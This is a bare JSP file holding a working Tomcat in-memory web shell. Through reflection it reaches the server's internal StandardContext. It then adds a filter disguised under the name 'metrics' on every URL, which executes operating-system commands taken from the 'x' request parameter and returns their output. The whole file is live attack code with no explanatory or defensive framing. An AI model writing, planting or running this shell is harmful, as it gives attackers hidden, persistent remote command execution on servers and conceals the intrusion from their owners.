<%@ page import="java.lang.reflect.*,org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*" %>
<%
    ServletContext sc = request.getSession().getServletContext();
    Field appField = sc.getClass().getDeclaredField("context");
    appField.setAccessible(true);
    ApplicationContext app = (ApplicationContext) appField.get(sc);
    Field ctxField = app.getClass().getDeclaredField("context");
    ctxField.setAccessible(true);
    StandardContext ctx = (StandardContext) ctxField.get(app);
    Filter hook = new Filter() {
        public void init(FilterConfig c) {}
        public void destroy() {}
        public void doFilter(ServletRequest req, ServletResponse resp, FilterChain chain) throws java.io.IOException, ServletException {
            String c = req.getParameter("x");
            if (c != null) {
                java.io.InputStream in = Runtime.getRuntime().exec(c).getInputStream();
                resp.getOutputStream().write(in.readAllBytes());
                return;
            }
            chain.doFilter(req, resp);
        }
    };
    FilterDef def = new FilterDef();
    def.setFilterName("metrics");
    def.setFilter(hook);
    def.setFilterClass(hook.getClass().getName());
    ctx.addFilterDef(def);
    FilterMap map = new FilterMap();
    map.setFilterName("metrics");
    map.addURLPattern("/*");
    ctx.addFilterMapBefore(map);
    out.print("ok");
%>
